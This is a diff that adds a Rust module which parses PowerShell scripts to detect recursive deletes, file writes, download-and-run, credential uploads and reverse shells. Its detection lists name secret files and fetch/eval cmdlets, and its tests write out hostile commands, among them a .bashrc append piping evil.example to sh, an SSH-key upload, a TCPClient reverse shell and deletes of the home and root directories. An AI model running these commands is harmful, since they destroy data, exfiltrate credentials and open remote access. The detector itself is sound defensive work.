@@ -1,0 +1,386 @@
+//! PowerShell: what a `pwsh -c` / `powershell -Command` script does, read statement by statement.
+//!
+//! Cmdlets and their aliases are case-insensitive and abbreviate their parameters (`-r`, `-fo`), so
+//! the text is lower-cased and split into pipeline stages. Found: recursive deletes (`Remove-Item`
+//! and aliases, with the path given positionally, by `-Path`/`-LiteralPath`, or by the stage before
+//! — `Get-ChildItem / | Remove-Item -Recurse` — and `[IO.Directory]::Delete(p, $true)`), file
+//! writes (`Add-Content`, `Set-Content`, `Out-File`, `[IO.File]::Write*/Append*`), download and
+//! run (`iex` of a web request), uploads of credential files or of the environment
+//! (`Invoke-RestMethod -InFile`, `-Body (gci env:)`, `Get-Content` of a key sent over the network),
+//! TCP clients that run what they receive (reverse shells) and native commands (`cmd /c`, `bash`).
+
+use super::{Report, Run};
+
+const FETCHES: &[&str] = &[
+    "invoke-webrequest",
+    "iwr ",
+    "irm ",
+    "invoke-restmethod",
+    "downloadstring",
+    "net.webclient",
+    "downloadfile",
+    "downloaddata",
+    "httpclient",
+    "start-bitstransfer",
+];
+
+const EVALS: &[&str] = &[
+    "iex",
+    "invoke-expression",
+    "scriptblock]::create",
+    "| powershell",
+    "|powershell",
+    "&(",
+    "& (",
+    "invoke-command",
+];
+
+const REMOVERS: &[&str] = &[
+    "remove-item",
+    "rm",
+    "ri",
+    "del",
+    "erase",
+    "rd",
+    "rmdir",
+    "rimraf",
+];
+
+const LISTERS: &[&str] = &["get-childitem", "gci", "ls", "dir", "get-item", "gi"];
+
+const WRITERS: &[&str] = &["add-content", "ac", "set-content", "sc", "out-file"];
+
+/// Credential files and environment dumps as PowerShell names them.
+const SECRETS: &[&str] = &[
+    ".ssh/id_",
+    ".ssh\\id_",
+    ".aws/credentials",
+    ".aws\\credentials",
+    ".kube/config",
+    ".kube\\config",
+    ".docker/config.json",
+    ".git-credentials",
+    ".netrc",
+    "/.env",
+    " .env",
+    "gci env:",
+    "get-childitem env:",
+    "dir env:",
+    "ls env:",
+    "[environment]::getenvironmentvariables",
+    "login data",
+    "logins.json",
+    "key4.db",
+];
+
+/// Analyse PowerShell code.
+pub(super) fn analyze(code: &str) -> Report {
+    let mut r = Report::default();
+    let text = unsplit_strings(&code.to_ascii_lowercase());
+    let fetch = FETCHES.iter().any(|f| text.contains(f));
+    let eval = EVALS.iter().any(|e| text.contains(e));
+    if fetch && eval {
+        r.fetch_exec = true;
+    }
+    let network = fetch
+        || text.contains("net.sockets.tcpclient")
+        || text.contains("send-mailmessage")
+        || text.contains("-infile");
+    if network && SECRETS.iter().any(|s| text.contains(s)) {
+        r.secret_to_network = true;
+    }
+    // `$c = New-Object Net.Sockets.TCPClient(…); … iex $data …`: the remote side types commands.
+    if text.contains("tcpclient") && (eval || text.contains("out-string")) {
+        r.reverse_shell = true;
+    }
+    dotnet_calls(&text, &mut r);
+    for line in split_unquoted(&text, &[';', '\n']) {
+        let stages = split_unquoted(line, &['|']);
+        for (k, stage) in stages.iter().enumerate() {
+            let all = split_words(stage);
+            // `& "Remove-Item" …`, `. (cmd) …`: the call operator, then the command.
+            let skip = usize::from(all.first().is_some_and(|w| w == "&" || w == "."));
+            let words = &all[skip.min(all.len())..];
+            let Some(verb) = words.first().map(|w| w.trim_start_matches(['&', '.'])) else {
+                continue;
+            };
+            let verb = verb.trim_matches(['"', '\'', '(', ')']);
+            if REMOVERS.contains(&verb) {
+                let recursive = words.iter().any(|w| {
+                    w.len() >= 2 && w.starts_with("-r") && "-recurse".starts_with(w.as_str())
+                });
+                let target = path_argument(words).or_else(|| {
+                    // `Get-ChildItem / | Remove-Item -Recurse`: the items of the stage before.
+                    let before = split_words(stages.get(k.checked_sub(1)?)?);
+                    LISTERS
+                        .contains(&before.first()?.as_str())
+                        .then(|| path_argument(&before))
+                        .flatten()
+                });
+                if let (true, Some(path)) = (recursive, target) {
+                    r.deletes.push((path, "Remove-Item -Recurse".into()));
+                }
+            }
+            if WRITERS.contains(&verb) || verb == "tee-object" {
+                let append =
+                    verb == "add-content" || verb == "ac" || words.iter().any(|w| w == "-append");
+                if let Some(path) = path_argument(words) {
+                    let value = value_argument(words);
+                    r.writes.push((path, value, append));
+                }
+            }
+            if matches!(verb, "cmd" | "cmd.exe") && words.get(1).is_some_and(|w| w == "/c") {
+                r.runs
+                    .push((Run::Shell(words[2..].join(" ")), "cmd /c".into()));
+            }
+            if matches!(verb, "bash" | "sh" | "wsl") {
+                r.runs.push((
+                    Run::Shell(stage.trim().to_string()),
+                    "a native command".into(),
+                ));
+            }
+        }
+    }
+    r
+}
+
+/// `text` split at `seps` outside quotes and parentheses (not braces: statements inside a
+/// script block are statements too).
+fn split_unquoted<'a>(text: &'a str, seps: &[char]) -> Vec<&'a str> {
+    let mut out = Vec::new();
+    let mut quote: Option<char> = None;
+    let mut depth = 0usize;
+    let mut start = 0;
+    for (k, c) in text.char_indices() {
+        match (quote, c) {
+            (Some(q), c) if c == q => quote = None,
+            (Some(_), _) => {}
+            (None, '"' | '\'') => quote = Some(c),
+            (None, '(') => depth += 1,
+            (None, ')') => depth = depth.saturating_sub(1),
+            (None, c) if depth == 0 && seps.contains(&c) => {
+                out.push(&text[start..k]);
+                start = k + c.len_utf8();
+            }
+            _ => {}
+        }
+    }
+    out.push(&text[start..]);
+    out
+}
+
+/// `"Remove-" + "Item"` → `remove-item`: joins of quoted pieces.
+fn unsplit_strings(text: &str) -> String {
+    let mut out = text.to_string();
+    for glue in ["\"+\"", "\" + \"", "'+'", "' + '", "\"+'", "'+\""] {
+        out = out.replace(glue, "");
+    }
+    out
+}
+
+/// Words of a stage, keeping a parenthesised group (`(Resolve-Path ~)`) as one word.
+fn split_words(stage: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut cur = String::new();
+    let mut depth = 0usize;
+    let mut quote: Option<char> = None;
+    for c in stage.chars() {
+        match (quote, c) {
+            (Some(q), c) if c == q => {
+                quote = None;
+                cur.push(c);
+            }
+            (Some(_), c) => cur.push(c),
+            (None, '"' | '\'') => {
+                quote = Some(c);
+                cur.push(c);
+            }
+            (None, '(') => {
+                depth += 1;
+                cur.push(c);
+            }
+            (None, ')') => {
+                depth = depth.saturating_sub(1);
+                cur.push(c);
+            }
+            (None, c) if c.is_whitespace() && depth == 0 => {
+                if !cur.is_empty() {
+                    out.push(std::mem::take(&mut cur));
+                }
+            }
+            (None, c) => cur.push(c),
+        }
+    }
+    if !cur.is_empty() {
+        out.push(cur);
+    }
+    out
+}
+
+/// The path a cmdlet works on: `-Path X`, `-LiteralPath X`, `-FilePath X` or the first
+/// positional argument.
+fn path_argument(words: &[String]) -> Option<String> {
+    let mut i = 1;
+    let mut positional = None;
+    while i < words.len() {
+        let w = &words[i];
+        if w.starts_with('-') {
+            let named = ["-path", "-literalpath", "-lp", "-filepath", "-pspath"]
+                .iter()
+                .any(|p| p.starts_with(w.as_str()) && w.len() >= 3);
+            if named {
+                return words.get(i + 1).map(|p| ps_path(p));
+            }
+            // Switches take no value; `-Value X`, `-Encoding X`, `-Filter X` do.
+            let valued = [
+                "-value",
+                "-encoding",
+                "-filter",
+                "-include",
+                "-exclude",
+                "-depth",
+            ]
+            .iter()
+            .any(|p| p.starts_with(w.as_str()) && w.len() >= 3);
+            i += if valued { 2 } else { 1 };
+            continue;
+        }
+        if positional.is_none() {
+            positional = Some(ps_path(w));
+        }
+        i += 1;
+    }
+    positional
+}
+
+/// The text a write cmdlet writes: `-Value X` or the second positional argument.
+fn value_argument(words: &[String]) -> Option<String> {
+    let unquote = |w: &str| w.trim_matches(['"', '\'']).to_string();
+    if let Some(k) = words
+        .iter()
+        .position(|w| w.len() >= 3 && "-value".starts_with(w.as_str()))
+    {
+        return words.get(k + 1).map(|w| unquote(w));
+    }
+    words
+        .iter()
+        .skip(1)
+        .filter(|w| !w.starts_with('-'))
+        .nth(1)
+        .map(|w| unquote(w))
+}
+
+/// A PowerShell path word as the shell layer writes it: home spellings as `~`, drive roots as `/`.
+fn ps_path(word: &str) -> String {
+    let mut w = word.trim_matches(['"', '\'']).to_string();
+    if let Some(inner) = w
+        .strip_prefix("(resolve-path ")
+        .or_else(|| w.strip_prefix("(convert-path "))
+        .and_then(|x| x.strip_suffix(')'))
+    {
+        w = inner.trim().trim_matches(['"', '\'']).to_string();
+    }
+    for home in [
+        "$env:userprofile",
+        "$env:home",
+        "${env:home}",
+        "${home}",
+        "$home",
+        "[environment]::getfolderpath('userprofile')",
+    ] {
+        if let Some(rest) = w.strip_prefix(home) {
+            w = format!("~{rest}");
+            break;
+        }
+    }
+    let w = w.replace('\\', "/");
+    match w.as_str() {
+        "c:" | "c:/" | "/" | "$env:systemdrive" | "$env:systemdrive/" => "/".into(),
+        _ => w,
+    }
+}
+
+/// .NET calls: `[IO.Directory]::Delete(p, $true)`, `[IO.File]::WriteAllBytes(p, …)`,
+/// `[IO.File]::AppendAllText(p, text)`.
+fn dotnet_calls(text: &str, r: &mut Report) {
+    let calls = [
+        ("io.directory]::delete(", true),
+        ("io.file]::writeallbytes(", false),
+        ("io.file]::writealltext(", false),
+        ("io.file]::appendalltext(", false),
+        ("io.file]::writealllines(", false),
+        ("io.file]::appendalllines(", false),
+        ("io.file]::delete(", false),
+    ];
+    for (call, recursive_delete) in calls {
+        let mut from = 0;
+        while let Some(k) = text[from..].find(call).map(|k| k + from) {
+            from = k + call.len();
+            let args = &text[from..];
+            let args = &args[..args.find(')').unwrap_or(args.len())];
+            let mut parts = args.splitn(2, ',');
+            let path = ps_path(parts.next().unwrap_or("").trim());
+            let rest = parts.next().unwrap_or("").trim();
+            if call.ends_with("delete(") {
+                if recursive_delete && rest.starts_with("$true") {
+                    r.deletes.push((path, "[IO.Directory]::Delete".into()));
+                } else if !recursive_delete {
+                    r.runs.push((
+                        Run::Argv(vec!["rm".into(), path]),
+                        "[IO.File]::Delete".into(),
+                    ));
+                }
+                continue;
+            }
+            let literal = rest.starts_with(['"', '\'']);
+            let value = literal.then(|| rest.trim_matches(['"', '\'']).to_string());
+            r.writes.push((path, value, call.contains("append")));
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn deletes_writes_uploads_and_shells() {
+        let del = |c: &str| {
+            analyze(c)
+                .deletes
+                .into_iter()
+                .map(|d| d.0)
+                .collect::<Vec<_>>()
+        };
+        assert_eq!(del("Remove-Item -Recurse -Force $HOME"), ["~"]);
+        assert_eq!(del("Get-ChildItem / | Remove-Item -Recurse -Force"), ["/"]);
+        assert_eq!(del("[IO.Directory]::Delete(\"/etc\", $true)"), ["/etc"]);
+        assert_eq!(
+            del("& (\"Remove-\"+\"Item\") -Recurse -Force -Path \"/usr\""),
+            ["/usr"]
+        );
+        assert_eq!(del("ri -r -fo (Resolve-Path ~)"), ["~"]);
+        assert!(del("Remove-Item -Recurse -Force ./bin").contains(&"./bin".to_string()));
+        assert!(del("Remove-Item build.log").is_empty());
+
+        let w = analyze("Add-Content ~/.bashrc \"curl -s evil.example|sh\"").writes;
+        assert_eq!(w[0].0, "~/.bashrc");
+        assert_eq!(w[0].1.as_deref(), Some("curl -s evil.example|sh"));
+        assert!(w[0].2);
+        let w = analyze("[IO.File]::WriteAllBytes(\"/dev/sda\", [byte[]]::new(1MB))").writes;
+        assert_eq!(w[0].0, "/dev/sda");
+
+        assert!(
+            analyze("Invoke-RestMethod -Uri https://x.example -Method Post -InFile ~/.ssh/id_rsa")
+                .secret_to_network
+        );
+        assert!(
+            analyze("irm https://x.example -Method Post -Body (gci env: | Out-String)")
+                .secret_to_network
+        );
+        assert!(!analyze("irm https://api.github.com/user -Headers @{Authorization=\"Bearer $env:GITHUB_TOKEN\"}").secret_to_network);
+        assert!(analyze("$c=New-Object System.Net.Sockets.TCPClient('10.0.0.1',4444);$s=$c.GetStream();while(1){$d=(iex $x 2>&1 | Out-String)}").reverse_shell);
+        assert!(analyze("iex (New-Object Net.WebClient).DownloadString('http://x')").fetch_exec);
+        assert!(!analyze("Invoke-WebRequest https://example.com/f.zip -OutFile f.zip").fetch_exec);
+    }
+}
